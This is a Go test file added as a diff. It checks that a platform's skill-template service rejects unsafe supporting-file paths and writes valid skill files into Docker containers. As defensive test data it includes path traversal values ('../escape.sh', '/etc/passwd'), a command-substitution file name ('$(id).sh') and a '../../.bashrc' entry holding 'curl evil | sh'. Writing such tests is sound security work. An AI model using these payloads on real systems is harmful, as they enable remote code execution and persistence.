@@ -0,0 +1,122 @@
+package services
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"cc-platform/internal/models"
+)
+
+func TestNormalizeSkillFiles(t *testing.T) {
+	files, err := normalizeSkillFiles(map[string]string{" scripts/run.sh ": "#!/bin/sh", "reference.md": "# Ref"})
+	if err != nil || len(files) != 2 || files["scripts/run.sh"] != "#!/bin/sh" || files["reference.md"] != "# Ref" {
+		t.Fatalf("Unexpected result %v (%v)", files, err)
+	}
+
+	for _, p := range []string{
+		"", "/etc/passwd", "../escape.sh", "scripts/../../escape.sh", "scripts/./run.sh", "scripts//run.sh",
+		"scripts/", `scripts\run.sh`, "my script.sh", "$(id).sh", ".hidden", "skill.md",
+	} {
+		if _, err := normalizeSkillFiles(map[string]string{p: "x"}); !errors.Is(err, ErrInvalidSkillFile) {
+			t.Errorf("normalizeSkillFiles(%q) = %v, want ErrInvalidSkillFile", p, err)
+		}
+	}
+
+	if _, err := normalizeSkillFiles(map[string]string{"scripts": "x", "scripts/run.sh": "y"}); !errors.Is(err, ErrInvalidSkillFile) {
+		t.Errorf("Expected a file used as a directory to be rejected, got %v", err)
+	}
+	if _, err := normalizeSkillFiles(map[string]string{"big.txt": strings.Repeat("x", maxSkillFileSize+1)}); !errors.Is(err, ErrInvalidSkillFile) {
+		t.Errorf("Expected an oversized file to be rejected, got %v", err)
+	}
+}
+
+func TestConfigTemplate_SkillFiles(t *testing.T) {
+	s := setupPauseTestService(t)
+	if err := s.db.AutoMigrate(&models.ClaudeConfigTemplate{}); err != nil {
+		t.Fatalf("failed to migrate: %v", err)
+	}
+	templates := NewConfigTemplateService(s.db)
+
+	created, err := templates.Create(CreateConfigTemplateInput{
+		Name: "deploy", ConfigType: models.ConfigTypeSkill, Content: "# Deploy",
+		Files: map[string]string{"scripts/deploy.sh": "#!/bin/sh\necho hi"},
+	})
+	if err != nil {
+		t.Fatalf("Create failed: %v", err)
+	}
+	stored, _ := templates.GetByID(created.ID)
+	if stored.Files["scripts/deploy.sh"] != "#!/bin/sh\necho hi" {
+		t.Errorf("Expected the files to be stored, got %v", stored.Files)
+	}
+
+	// Update replaces the file set, an empty set removes it
+	updated, err := templates.Update(created.ID, UpdateConfigTemplateInput{Files: &map[string]string{"ref/api.md": "# API"}})
+	if err != nil || len(updated.Files) != 1 || updated.Files["ref/api.md"] != "# API" {
+		t.Fatalf("Unexpected update result %v (%v)", updated, err)
+	}
+	updated, err = templates.Update(created.ID, UpdateConfigTemplateInput{Files: &map[string]string{}})
+	if err != nil || len(updated.Files) != 0 {
+		t.Fatalf("Expected the files to be removed, got %v (%v)", updated, err)
+	}
+
+	if _, err := templates.Update(created.ID, UpdateConfigTemplateInput{Files: &map[string]string{"../x": "y"}}); !errors.Is(err, ErrInvalidSkillFile) {
+		t.Errorf("Expected ErrInvalidSkillFile for an escaping path, got %v", err)
+	}
+	if _, err := templates.Create(CreateConfigTemplateInput{
+		Name: "rules", ConfigType: models.ConfigTypeClaudeMD, Content: "# Rules", Files: map[string]string{"a.md": "x"},
+	}); !errors.Is(err, ErrInvalidSkillFile) {
+		t.Errorf("Expected files on a non-skill template to be rejected, got %v", err)
+	}
+}
+
+func TestInjectSkill_WritesSupportingFiles(t *testing.T) {
+	mockDocker := newMockDockerClient()
+	service := newConfigInjectionServiceWithExecutor(mockDocker, newMockConfigTemplateServiceForInjection())
+
+	err := service.InjectSkill(context.Background(), "test-container", "deploy", "# Deploy", models.SkillFiles{
+		"scripts/deploy.sh": "#!/bin/sh\necho hi",
+		"reference.md":      "# Reference",
+	})
+	if err != nil {
+		t.Fatalf("InjectSkill returned error: %v", err)
+	}
+
+	var mkdirScripts, wroteScript, wroteReference, chmodScript, chmodReference bool
+	for _, call := range mockDocker.getExecCalls() {
+		cmdStr := fmt.Sprintf("%v", call.cmd)
+		switch {
+		case containsStr(cmdStr, "mkdir -p") && containsStr(cmdStr, "/.claude/skills/deploy/scripts"):
+			mkdirScripts = true
+		case containsStr(cmdStr, "base64 -d") && containsStr(cmdStr, "/.claude/skills/deploy/scripts/deploy.sh"):
+			wroteScript = true
+		case containsStr(cmdStr, "base64 -d") && containsStr(cmdStr, "/.claude/skills/deploy/reference.md"):
+			wroteReference = true
+		case containsStr(cmdStr, "chmod +x") && containsStr(cmdStr, "deploy.sh"):
+			chmodScript = true
+		case containsStr(cmdStr, "chmod +x") && containsStr(cmdStr, "reference.md"):
+			chmodReference = true
+		}
+	}
+	if !mkdirScripts || !wroteScript || !wroteReference {
+		t.Errorf("Expected the supporting files to be written (mkdir=%v script=%v reference=%v)", mkdirScripts, wroteScript, wroteReference)
+	}
+	if !chmodScript || chmodReference {
+		t.Errorf("Expected only the script to be made executable (script=%v reference=%v)", chmodScript, chmodReference)
+	}
+}
+
+func TestInjectSkill_RejectsEscapingFile(t *testing.T) {
+	mockDocker := newMockDockerClient()
+	service := newConfigInjectionServiceWithExecutor(mockDocker, newMockConfigTemplateServiceForInjection())
+
+	err := service.InjectSkill(context.Background(), "test-container", "deploy", "# Deploy", models.SkillFiles{"../../.bashrc": "curl evil | sh"})
+	if !errors.Is(err, ErrInvalidSkillFile) {
+		t.Fatalf("Expected ErrInvalidSkillFile, got %v", err)
+	}
+	if len(mockDocker.getExecCalls()) != 0 {
+		t.Error("Expected no exec calls for a rejected file")
+	}
+}